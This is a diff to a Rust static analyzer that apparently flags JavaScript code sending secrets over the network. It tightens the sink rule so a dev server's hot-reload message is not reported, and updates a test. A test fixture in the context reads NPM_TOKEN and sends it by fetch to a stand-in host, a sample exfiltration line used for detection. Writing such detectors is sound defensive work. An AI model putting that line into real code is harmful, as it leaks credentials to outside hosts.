@@ -197,7 +197,9 @@ fn is_sink(p: &str) -> bool {
         "request" | "get" | "post" | "put" | "patch" | "send" | "write" | "end" | "connect"
     );
     // A client module (`axios.post`, `got.post`, `needle('post', …)`, `node-fetch`).
-    (crate::rules::network::NET_MODULES.contains(&root) && (sending || head == root && method.is_empty()))
+    // A client module's own call (`axios.post`, `got.post`, `needle(…)`), not a deeper chain
+    // (`http.createServer.hot.send` is a dev server talking to its page).
+    (crate::rules::network::NET_MODULES.contains(&root) && (sending && head == root || p == root))
         // The result of a request or socket: `https.request.end(body)`, `net.connect.write(x)`.
         || (matches!(method, "write" | "end" | "send") && crate::rules::network::is_net_call(head))
 }
@@ -716,7 +718,7 @@ const t = env.NPM_TOKEN; fetch("https://r.example/?t=" + t);"#;
     fn a_dev_server_message_is_not_a_network_request() {
         // vite 5.2.10: `server.hot.send(...)` on the result of http.createServer.
         let src = r#"const http = require("http"); const server = http.createServer(); const env = process.env;
-server.hot.send({ type: "update", env });"#;
+server.hot.send({ type: "update", data: env });"#;
         assert!(flows(src).is_empty());
     }
 
